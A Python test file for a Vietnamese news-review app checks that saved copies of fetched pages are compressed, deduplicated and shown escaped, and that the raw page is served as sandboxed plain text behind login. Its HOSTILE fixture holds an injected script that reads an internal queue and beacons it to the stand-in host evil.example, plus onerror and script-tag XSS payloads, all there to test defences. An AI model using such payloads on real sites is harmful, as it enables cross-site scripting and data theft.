"""Bản lưu on the item page: the saved copy is shown as our text, the page as fetched only as sandboxed text/plain."""

from __future__ import annotations

import zlib
from datetime import UTC, datetime

from fastapi.testclient import TestClient
from sqlalchemy.orm import Session, sessionmaker

from store.models import ArticleSnapshot, ReviewItem, SnapshotKind
from store.snapshots import latest_snapshot, raw_bytes, save_snapshot, snapshots_of, storage_cost
from tests.review.support import World, login

HOSTILE = (
    "<!doctype html><html><head><meta charset=\"utf-8\"><title>Tin đồn bán trú</title>"
    "<script>document.title = 'ĐÃ CHẠY'; fetch('/api/queue').then(r => r.text()).then(t => navigator.sendBeacon('http://evil.example/', t));</script>"
    "</head><body><h1>Hải Phòng dừng bữa ăn bán trú?</h1><p>Phụ huynh phải tự mang cơm cho con từ học kỳ II.</p>"
    "<img src=x onerror=\"alert(1)\"></body></html>"
).encode("utf-8")
TEXT = "Phụ huynh phải tự mang cơm cho con từ học kỳ II. <script>alert('trong văn bản')</script>"
FETCHED = datetime(2026, 11, 20, 17, 5, tzinfo=UTC)  # 21/11/2026 00:05 in Hải Phòng


def _save(sessions: sessionmaker[Session], item_id: int, raw: bytes = HOSTILE, at: datetime = FETCHED) -> tuple[int, int]:
    with sessions() as s, s.begin():
        article_id = s.get(ReviewItem, item_id).article_id  # type: ignore[union-attr]
        snap = save_snapshot(s, article_id, "https://tiktok.example/@phuhuynh/video/1", at, SnapshotKind.page,
                             "text/html; charset=utf-8", raw, "Hải Phòng dừng bữa ăn bán trú?", TEXT)
        assert snap is not None
        s.flush()
        return article_id, snap.id


def test_snapshots_are_compressed_kept_once_per_body_and_newest_first(sessions: sessionmaker[Session], world: World) -> None:
    article_id, first = _save(sessions, world.rumour_item)
    revised = HOSTILE.replace(b"II.", " II (sửa).".encode())
    _, second = _save(sessions, world.rumour_item, revised, datetime(2026, 11, 21, 2, 0, tzinfo=UTC))
    with sessions() as s, s.begin():
        assert save_snapshot(s, article_id, "https://tiktok.example/x", FETCHED, SnapshotKind.page, "text/html", HOSTILE, "", "") is None
        copies = snapshots_of(s, article_id)
        assert [c.id for c in copies] == [second, first] and latest_snapshot(s, article_id).id == second  # type: ignore[union-attr]
        stored = s.get(ArticleSnapshot, first)
        assert stored is not None and raw_bytes(stored) == HOSTILE and zlib.decompress(stored.body) == HOSTILE
        assert stored.raw_size == len(HOSTILE) and len(stored.content_hash) == 64 and stored.fetched_at == FETCHED
        cost = storage_cost(s)
    assert cost.snapshots == 2 and cost.articles == 1 and cost.raw_bytes == len(HOSTILE) + len(revised)
    assert 0 < cost.stored_bytes < cost.raw_bytes


def test_item_page_links_the_saved_copy_with_its_fetch_time(client: TestClient, sessions: sessionmaker[Session], world: World) -> None:
    _, snap = _save(sessions, world.rumour_item)
    login(client, "thamdinh.lan")
    page = client.get(f"/items/{world.rumour_item}").text
    assert f'href="/items/{world.rumour_item}/ban-luu" id="saved-copy"' in page and "Bản lưu 21/11/2026 00:05" in page
    assert 'id="saved-copy"' not in client.get(f"/items/{world.merger_item}").text  # nothing saved for that one
    view = client.get(f"/items/{world.rumour_item}/ban-luu")
    assert view.status_code == 200 and "tải về lúc <b>21/11/2026 00:05</b>" in view.text
    # the extracted text, escaped in our template: its <script> is text, never markup
    assert "&lt;script&gt;alert(&#39;trong văn bản&#39;)&lt;/script&gt;" in view.text and "<script>alert" not in view.text
    assert f'href="/items/{world.rumour_item}/ban-luu/{snap}/goc"' in view.text
    assert "Bài này chưa có bản lưu" in client.get(f"/items/{world.merger_item}/ban-luu").text


def test_the_page_as_fetched_is_sandboxed_plain_text(client: TestClient, sessions: sessionmaker[Session], world: World) -> None:
    _, snap = _save(sessions, world.rumour_item)
    login(client, "thamdinh.lan")
    raw = client.get(f"/items/{world.rumour_item}/ban-luu/{snap}/goc")
    assert raw.status_code == 200 and raw.content == HOSTILE
    assert raw.headers["content-type"] == "text/plain; charset=utf-8"
    assert raw.headers["content-security-policy"].startswith("sandbox") and raw.headers["x-content-type-options"] == "nosniff"
    assert raw.headers["content-disposition"] == f'inline; filename="ban-luu-{world.rumour_item}-{snap}.txt"'


def test_saved_copies_need_a_login_and_belong_to_their_item(client: TestClient, sessions: sessionmaker[Session], world: World) -> None:
    _, snap = _save(sessions, world.rumour_item)
    for path in (f"/items/{world.rumour_item}/ban-luu", f"/items/{world.rumour_item}/ban-luu/{snap}/goc"):
        r = client.get(path)
        assert r.status_code == 303 and r.headers["location"].startswith("/login?next=")
    login(client, "thamdinh.lan")
    # another item's copy, an unknown id, and text where an id goes: 404 naming the item
    for path in (f"/items/{world.merger_item}/ban-luu/{snap}/goc", f"/items/{world.rumour_item}/ban-luu/999999/goc",
                 f"/items/{world.rumour_item}/ban-luu/abc/goc", f"/items/{world.merger_item}/ban-luu?so={snap}"):
        r = client.get(path)
        assert r.status_code == 404 and "không có bản lưu" in r.text, path
